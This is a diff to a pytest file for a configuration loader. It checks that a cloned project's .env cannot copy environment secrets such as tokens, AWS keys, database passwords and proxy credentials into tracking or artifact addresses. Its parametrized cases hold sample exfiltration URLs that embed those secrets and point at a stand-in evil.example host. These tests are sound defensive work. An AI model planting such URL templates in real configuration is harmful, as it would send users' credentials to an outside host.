@@ -103,13 +103,67 @@ def test_a_project_named_by_the_environment_is_no_more_trusted(tmp_path, monkeyp
         load_settings().dagshub_secret()
 
 
-def test_a_clone_cannot_declare_trust_or_copy_a_variable(tmp_path, monkeypatch):
-    monkeypatch.setenv("DAGSHUB_TOKEN", "k3y")
-    (tmp_path / ".env").write_text(f"MLFLOW_TRACKING_URI={EVIL}/${{DAGSHUB_TOKEN}}\n")
-    assert "k3y" not in load_settings(cwd=tmp_path).mlflow_uri()
+def test_a_clone_cannot_declare_trust(tmp_path):
     (tmp_path / ".env").write_text("CRYPTOML_TRUSTED_HOSTS=127.0.0.1:9\n")
     with pytest.raises(ConfigError, match="counts in the environment only"):
         load_settings(cwd=tmp_path)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://evil.example/${DAGSHUB_TOKEN}",
+        "https://evil.example/$DAGSHUB_TOKEN",
+        "https://evil.example/${dagshub_token_backup}",
+        "https://${AWS_SECRET_ACCESS_KEY}.evil.example",
+        "postgresql://u:${PGPASSWORD}@evil.example/d",
+        "https://evil.example/?x=${HTTPS_PROXY}",
+    ],
+)
+def test_a_clone_cannot_copy_a_secret_of_the_environment_into_an_address(tmp_path, monkeypatch, address):
+    monkeypatch.setenv("HTTPS_PROXY", "http://ada:k3y@proxy.example")
+    for name in ("DAGSHUB_TOKEN", "dagshub_token_backup", "AWS_SECRET_ACCESS_KEY", "PGPASSWORD"):
+        monkeypatch.setenv(name, "k3y")
+    for setting in ("MLFLOW_TRACKING_URI", "DAGSHUB_CLIENT_HOST", "CRYPTOML_ARTIFACT_ROOT", "CRYPTOML_EXCHANGE_URL"):
+        (tmp_path / ".env").write_text(f"{setting}={address}\n")
+        with pytest.raises(ConfigError, match=f"{setting} in .env: the variable") as caught:
+            load_settings(cwd=tmp_path)
+        assert "k3y" not in str(caught.value)
+
+
+def test_a_secret_is_expanded_in_an_address_of_its_own_place(tmp_path, monkeypatch):
+    address = "postgresql://u:${PGPASSWORD}@db.example/mlflow"
+    (tmp_path / ".env").write_text(f"PGPASSWORD=own\nMLFLOW_TRACKING_URI={address}\n")
+    monkeypatch.setenv("PGPASSWORD", "k3y")
+    assert load_settings(cwd=tmp_path).mlflow_uri() == "postgresql://u:own@db.example/mlflow"
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", address)
+    settings = load_settings(cwd=tmp_path)
+    assert settings.mlflow_uri() == "postgresql://u:k3y@db.example/mlflow"
+    assert "k3y" not in repr(settings)
+
+
+def test_dotenv_cannot_change_an_address_of_the_environment(tmp_path, monkeypatch):
+    (tmp_path / ".env").write_text("HUB=evil.example\n")
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", "https://$HUB")
+    with pytest.raises(ConfigError, match="the variable HUB in it is not set"):
+        load_settings(cwd=tmp_path)
+
+
+def test_an_address_in_dotenv_that_is_overridden_need_not_expand(tmp_path, monkeypatch):
+    (tmp_path / ".env").write_text("MLFLOW_TRACKING_URI=https://x/${DAGSHUB_TOKEN}\n")
+    monkeypatch.setenv("DAGSHUB_TOKEN", "k3y")
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", "sqlite:///mlflow.db")
+    assert load_settings(cwd=tmp_path).mlflow_uri() == f"sqlite:///{tmp_path}/mlflow.db"
+
+
+def test_the_expanded_host_decides_who_gets_a_secret(tmp_path, monkeypatch):
+    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", "k3y")
+    monkeypatch.setenv("USER", "evil")
+    (tmp_path / ".env").write_text("MLFLOW_TRACKING_URI=https://$USER.example\n")
+    with pytest.raises(AccessError, match=r"its destination evil\.example is named by"):
+        load_settings(cwd=tmp_path).mlflow_credentials()
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", "https://$USER.example")
+    assert load_settings(cwd=tmp_path).mlflow_credentials() == ("k3y", "k3y")
 
 
 @pytest.mark.parametrize(
